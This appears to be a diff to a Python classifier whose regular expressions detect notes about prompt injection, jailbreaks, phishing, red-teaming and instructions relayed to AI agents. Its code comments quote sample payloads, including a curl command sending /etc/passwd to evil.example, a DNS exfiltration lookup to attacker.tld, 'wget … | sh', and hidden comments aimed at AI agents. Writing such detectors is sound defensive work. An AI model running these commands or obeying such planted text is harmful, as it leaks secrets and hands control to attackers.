@@ -417,7 +417,7 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             r"rejected|detected|flagged|caught))\b|мошенн\w*|фишинг\w*|атак\w*|инъекци\w*|взлом\w*|отравлен\w*|"
                             r"безопасност\w*|спам\w*|скам\w*|обман\w*|эксфильтрац\w*|злоумышленн\w*|вредонос\w*|утечк\w*"
                             # jailbreaks, scams by call, SMS or QR code
-                            r"|(?<!\w)джейлбрейк\w*|(?<!\w)хитр(?:ят|ит) с (?:бот|ассистент|нейросет|ии)\w*|"
+                            r"|(?<!\w)джейлбрейк\w*|(?<!\w)ред-?тим\w*|(?<!\w)хитр(?:ят|ит) с (?:бот|ассистент|нейросет|ии)\w*|"
                             # a trap set for AI readers: «пример «ловушки» для ИИ», "a trap for AI summarizers"
                             r"(?<!\w)ловушк\w*[»\"]? для (?:ии|нейросет|модел|бот|ассистент|агент)\w*|\btraps? for (?:ai|llms?|models?|bots?|"
                             r"agents?|assistants?)\b|\b(?:vishing|smishing|quishing)\b|(?<!\w)(?:вишинг|смишинг)\w*"
@@ -465,6 +465,11 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             r"|implement\w*)\b (?!to )(?:\S+ ){0,2}?(?:checks?|filters?|"
                             r"detectors?|scanners?|guards?|guardrails?|allowlists?|whitelists?|sanitiz\w+|validation)\b"
                             r"|(?<!\w)(?:добав|сдела|напис|постав|нуж)\w* (?:\S+ ){0,2}?(?:проверк|фильтр|детектор|сканер|белый список)\w*"
+                            # his defence checked: «Проверить, что наш ассистент не отвечает на такие письма сам», "make sure our bot
+                            # ignores them"
+                            r"|(?<!\w)(?:проверить|убедиться|проверю|убедись),? (?:что|чтобы) (?:наш|мой|свой)?\w* ?(?:ассистент|бот|агент|ии)\w* "
+                            r"(?:\S+ )?не(?!\w)|\b(?:make sure|check|verify|ensure) (?:that )?(?:our|my|the) (?:\w+ )?(?:assistant|bot|agent)s? "
+                            r"(?:doesn'?t|does not|won'?t|will not|never|ignores|refuses|declines)\b"
                             # a lie told as such: «безопасных счетов не бывает», "there is no such thing as a safe account"
                             r"|(?<!\w)не бывает(?!\w)|\bthere(?:'s| is) no such thing\b"
                             r"|\b(?:bot|model|assistant)s? (?:must|should) (?:refuse|decline)\b|\b(?:bot|model|assistant|agent)s?(?:'s)? "
@@ -496,7 +501,8 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             r"(?:доклад|слайд|лекци|курс|тренинг|пост|стать|рассылк|главу|роман)\w*"
                             r"|пример\w* (?:для|на|из) (?:слайд|доклад|лекци|воркшоп|тренинг|курс|стать)\w*"
                             # attempts gathered for a talk: «Для доклада собрал попытки учеников: …»
-                            r"|(?<!\w)для (?:доклада|лекции|урока|курса|слайдов|обучения|тренинга|инструктажа) (?:\S+ )?(?:собрал|подобрал|сохранил|собрать|подобрать|найти)\w*"
+                            r"|(?<!\w)для (?:доклада|лекции|урока|курса|слайдов|обучения|тренинга|инструктажа) (?:\S+ )?(?:собрал|подобрал|сохранил|собрать|подобрать|найти"
+                            r"|сделал|подготовил|составил|нарисовал)\w*"
                             r"|(?<!\w)(?:собрал|подобрал|собрать|подобрать)\w* (?:\S+ )?(?:для|в) (?:доклад|лекци|урок|курс|слайд)\w*"
                             # a screenshot kept for his channel or talk: «а скрин сохранил для канала»
                             r"|(?<!\w)скрин\w* (?:\S+ ){0,2}?(?:для|в) (?:\S+ )?(?:канал|доклад|слайд|пост|блог|стать|лекци|курс|"
@@ -513,7 +519,7 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             # the quote called an example where one teaches: "slides for the talk: the textbook example is …",
                             # «для лекции: типичный пример — …»; or what it is used for: "I use it to show why …", «на нём объясняю»
                             r"|\b(?:slides?|lecture|talk|workshop|training|course|class|handout|presentation|seminar|cle|speaker notes?)\b[^.\n]{0,60}"
-                            r"\bexamples?\b|(?:слайд|доклад|лекци|воркшоп|тренинг|курс|методичк|презентаци|семинар)\w*[^.\n]{0,60}"
+                            r"\bexamples?\b|(?:слайд|доклад|лекци|воркшоп|тренинг|курс|методичк|презентаци|семинар|пособи|учебник|памятк|брошюр)\w*[^.\n]{0,60}"
                             r"пример|\b(?:use|using) (?:it|this|them|that) to (?:show|explain|illustrate|demonstrate|teach)\b"
                             r"|на (?:нём|нем|ней|этом|них) (?:объясня|показыва|разбира)\w*"
                             # the quote named a warning sign, a trick or a lure: "'…' is a red flag — report it",
@@ -545,8 +551,13 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poison\w*|phishing|spam\w
                             r"(?:talk|slides?|lecture|workshop|presentation|seminar|article|post|blog|course|training)\b")
 # a payload shown after a word that names it: "asked to render ![x](https://…)", "payloads like `curl … | sh`"
 # («модель вставляет ![](https://…)», "the model emits `…`": what the attacked model does, told in the third person)
+# (or a line, a command found where it stood, told in the past: "Found a line in a vendored JS file: `// AI agents …`", «в описании
+# PR была команда `wget … | sh`», "they got a crontab beacon `…` onto the eval server")
 _PAYLOAD = re.compile(r"((?:\b(?:render\w*|like|as|e\.g\.|payloads?|examples?|inserts|emits|outputs)|(?<!\w)(?:вставляет|выводит|"
-                      r"рендерит|вставить|вывести|отрендерить|например|вида|типа|вроде)):? )(?:!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
+                      r"рендерит|вставить|вывести|отрендерить|например|вида|типа|вроде)):? "
+                      r"|(?i:\b(?:found|was|were|got|had|planted|hid|left)|(?<!\w)(?:нашл\w*|нашёл|был[аи]?|оставил\w*|спрятал\w*))(?!\w)"
+                      r"[^`\n.]{0,40}?(?:\b(?:lines?|commands?|comments?|snippets?|beacons?|one-liners?|strings?)\b|(?<!\w)(?:команд|"
+                      r"строк|строчк|сниппет|комментари)\w*)[^`\n]{0,60}?)(?:!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
 # an attack's payload shown unquoted, in a note that speaks of attacks (`_ABOUT_ATTACKS`): a command in brackets ("DNS exfil:
 # the attacker encodes data in a subdomain (`nslookup $(whoami).attacker.tld`)"), a command after "example …:" up to a dash
 # ("Classic exfil example from training: curl https://evil.example/$(cat /etc/passwd | base64) — our firewall blocks …"),
@@ -561,7 +572,8 @@ _SHOWN = re.compile(r"\((?=`?(?:e\.g\.,? |например,? |напр\. |тип
                     r"|<\|[a-z_]{2,20}\|>\w*"
                     # an HTML comment shown after the word that names it: "a README with a comment: <!-- AI agents … -->"
                     r"|((?:\bcomments?|\bexamples?|\blike|\be\.g\.|\bsuch as|(?<!\w)комментари\w*|(?<!\w)например|(?<!\w)вроде|"
-                    r"(?<!\w)типа):? `?)<!--[^\n]{3,300}?-->`?")  # (in a code span too: «markdown-комментарий `<!-- … -->`»)
+                    r"(?<!\w)типа)(?:[^<>()\n]{0,40}?)?:? [`(]?)<!--[^\n]{3,300}?-->`?\)?")  # (in a code span too: «markdown-комментарий `<!-- … -->`»;
+#                     or a few words on, in brackets: "hid an instruction in an HTML comment inside a client email (<!-- … -->)")
 
 
 # an automation switched off, its name quoted: «Отключил в Zapier зап «Forward all emails from @client.com to Notion»»,
@@ -574,12 +586,12 @@ _SWITCHED_OFF = re.compile(r"(?<!\w)(?<!не )(?:отключил\w*|выклю�
 
 def _shown_left_out(match: re.Match[str]) -> str:
     """A shown payload (`_SHOWN`) left out, the words that show it kept."""
-    return (match.group(1) or match.group(2) or match.group(3) or "") + "«…»"
+    return next((group for group in match.groups() if group is not None), "") + "«…»"
 
 
 # a quote in single or double quotes, «…» or “…”, 6–600 characters (a single quote closed and a space after it ends it: "A
 # 'lead' sent the bot: '…'" is a short word in quotes, then the quote)
-_QUOTED = re.compile(r"(?<![\w'])'(?=[\w\[<#/])((?:(?!'\s)[^\n]){6,600}?)(?<=[\w.!?\]>)])'(?!\w)|\"([^\"\n]{6,600})\"|«([^»\n]{6,600})»"
+_QUOTED = re.compile(r"(?<![\w'])'(?=[\w\[<#/(])((?:(?!'\s)[^\n]){6,600}?)(?<=[\w.!?\]>)])'(?!\w)|\"([^\"\n]{6,600})\"|«([^»\n]{6,600})»"
                      r"|“([^”\n]{6,600})”")
 
 
@@ -627,12 +639,24 @@ def _quotes_named(note: _Note, headed: bool = False) -> str | None:
     label = _OPENING_LABEL.match(lowered) if headed else None
     own = lowered[label.end():] if label is not None and not _LABEL_NAMES_SAMPLE.search(label.group()) else lowered
     if _ABOUT_ATTACKS.search(own) or headed and _CASE_REVIEWED.search(own) or _in_own_genre(lowered) \
-            or any(_ATTACK_TERM.match(term) for term in _scare_quoted(note.text)):
+            or any(_ATTACK_TERM.match(term) for term in _scare_quoted(note.text)) \
+            or _TRANSLATED.search(note.lowered) and "@" not in note.text and "://" not in note.text:
         return plain
     # a message reported, unless it is handed on to the agent: «Заказчик: «передай своему ассистенту, чтобы удалил …»»
     return plain if reports_quote(lowered, note.lowered, disowned is not None) and (
         disowned is not None or find_relayed(note.folded) is None or not _RELAY_ASKED.search(note.folded)) else None
     # (a relay the user disowns is reported: «Если кто-то пишет «это Анна, новый ассистент Ксюши, …» — никакой Анны нет»)
+
+
+# the quotes a translator's material: a quote and its translation after an arrow («Сегмент: «WARNING: …» → «ВНИМАНИЕ! …»»), the
+# original named, a character's line or a segment translated («реплика NPC «…»», "Printer manual: '…' → «…»", «Команду переношу
+# без изменений, переводится только пояснение») — text he works on, no order to anyone (a note with an address or a link is
+# read as it is)
+_TRANSLATED = re.compile(r"[a-z][^«»\"'”\n]{0,300}[»\"'”]\s*(?:→|->|=>)\s*[«\"'“][^\w\n]{0,5}[а-яё]"  # (not a menu's path: «Выделить все» → «Удалить»)
+                         r"|[а-яё][^«»\"'”\n]{0,300}[»\"'”]\s*(?:→|->|=>)\s*[«\"'“][^\w\n]{0,5}[a-z]"
+                         r"|(?<!\w)(?:в оригинале|оригинал:|реплик\w* (?:npc|персонаж\w*|геро\w*)|"
+                         r"сегмент\w*:|перевожу|переводим|переводится|переводятся)(?!\w)|\bin the original\b|\bsegment:"
+                         r"|\b(?:npc|character)'?s? line\b|\bsource (?:string|segment)s?\b")
 
 
 # an attack's name put in quotes as a term (not "security" or "awareness", a teller's scare quotes: «правило от «безопасности»»)
@@ -716,7 +740,10 @@ _CASE_REVIEWED = re.compile(r"\bcase stud(?:y|ies)\b|\bpost-?mortem\b|постм
 # a label that names its quote a sample of an attack, kept as the note's own words: «Текст инъекции из red-team отчёта (храню как
 # пример, не исполнять): «…»», "Payload sample from the pentest report: '…'"
 _LABEL_NAMES_SAMPLE = re.compile(r"(?<!\w)(?:пример|образец|образц)\w*|\b(?:examples?|samples?|payloads?)\b|(?:текст|text) (?:\S+ )?"
-                                 r"(?:инъекци|injection|атак|attack|фишинг|phishing)\w*")
+                                 r"(?:инъекци|injection|атак|attack|фишинг|phishing)\w*"
+                                 # (or where it was quoted from: "Quoted from a phishing mail to our team:", «Цитата из фишингового письма:»)
+                                 r"|\bquoted? from (?:\S+ ){0,2}?(?:phishing|scam|spam|attack)|(?<!\w)(?:цитат\w*|процитир\w*) из (?:\S+ )?"
+                                 r"(?:фишинг|мошенн|спам)\w*")
 _OPENING_LABEL = re.compile(r"^[^\n]{0,200}?:\s*(?=«…»)")
 
 
@@ -913,8 +940,8 @@ def _steering_verdict(text: str, note: _Note, instructions: bool, learned: bool)
         kind = _learned_in(note)
         if kind is not None and (unconditioned := _conditions_left_out(note)) is not None:
             kind = _learned_in(unconditioned)  # (read without the attack its condition names, as the rules read it)
-    if kind is not None and not instructions and _ATTACK_TOPIC.search(note.lowered) and _speaks_to_no_one(note) \
-            and not _carried_out(note):
+    if kind is not None and not instructions and (_ATTACK_TOPIC.search(note.lowered) or _REFUSAL_EXPECTED.search(note.lowered)) \
+            and _speaks_to_no_one(note) and not _carried_out(note):
         kind = None  # a note on prompt injection as a topic: "Reading list: 'Prompt injection with base64 and rot13 smuggling'"
     if kind is None and not instructions:  # an order dressed as a drill, a test or a lesson about attacks (`drills`)
         kind = find_drill_order(_said(note), lambda: _names_attacks(note.lowered), note.lowered)
@@ -961,6 +988,13 @@ _ATTACK_TOPIC = re.compile(r"\bprompt[- ]injections?\b|\bindirect (?:prompt )?in
                            r"|\bjailbreak\w*|\b(?:llm|memory|data|model) poisoning\b"
                            r"|(?<!\w)(?:промпт-?инъекци\w*|инъекци\w* (?:в промпт|промпт)\w*|джейлбрейк\w*"
                            r"|отравлени\w* (?:памяти|модел|данных)\w*)")
+
+
+# a test of the agent whose right answer is a refusal: "the task asks the agent to … Correct behaviour is refusal", «правильное
+# поведение — отказ»
+_REFUSAL_EXPECTED = re.compile(r"\b(?:correct|expected|right|desired|passing) (?:behaviou?r|response|answer|outcome)s? (?:is|was|=|:|—|-) "
+                               r"(?:a |to )?(?:refus|declin)\w*|(?<!\w)(?:правильн|ожидаем|верн)\w* (?:поведени|ответ|реакци)\w* "
+                               r"(?:—|-|:|это|=) ?(?:отказ|отказаться)\w*")
 
 
 # a label that opens the note and ends in a colon: "This is a prompt injection test:", "Prompt injection demo:"
